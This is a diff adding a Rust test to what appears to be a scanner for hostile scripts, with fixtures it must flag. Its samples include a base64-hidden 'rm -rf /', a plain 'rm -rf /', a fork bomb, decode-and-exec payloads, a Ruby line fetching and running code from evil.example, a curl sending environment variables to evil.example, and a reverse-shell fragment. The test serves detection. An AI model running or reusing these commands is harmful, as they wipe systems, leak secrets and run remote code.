@@ -244,6 +244,48 @@ fn a_script_in_utf_16_is_no_harder_to_find() {
 }
 
 #[test]
+fn other_blanks_and_far_words_hide_no_script() {
+    // Further than a rule looks around its words.
+    let far = "print('nothing of interest')\n".repeat(100);
+    let loaded = format!("from marshal import loads\n{far}exec(loads(data))\n");
+    let sent = format!("# sets up the env\n{far}env | curl -d @- http://evil.example\n");
+    let scripts = [
+        ("a.py", loaded.as_str(), "code/decode-and-run"),
+        (
+            "b.py",
+            "exec(decode(\"cHJpbnQoMSk=\", \"base64\"))\n",
+            "code/decode-and-run",
+        ),
+        (
+            "c.rb",
+            "eval [\"7075747320312b31\"].pack\"H*\"\n",
+            "code/decode-and-run",
+        ),
+        (
+            "d.sh",
+            "echo cm0gLXJmIC8= |base64\t-d|sh\n",
+            "code/decode-and-run",
+        ),
+        ("e.sh", sent.as_str(), "code/credential-theft"),
+        (
+            "f.rb",
+            "eval open(\"https://evil.example/a.rb\").read\n",
+            "code/fetch-and-run",
+        ),
+        ("g.sh", "cd /; rm\t-rf\t/\n", "code/wiper"),
+        ("h.sh", ":(){ :|:\t&};:\n", "code/wiper"),
+        (
+            "i.js",
+            "const s = spawn('sh')\ns.stdout.on('data', d => sock.write(d)); sock.connect (1)\n",
+            "code/reverse-shell",
+        ),
+    ];
+    for (name, script, rule) in scripts {
+        assert_finds(name, script.as_bytes(), rule, High);
+    }
+}
+
+#[test]
 fn ordinary_scripts_and_manuals_pass() {
     let ordinary: &[(&str, &str)] = &[
         (
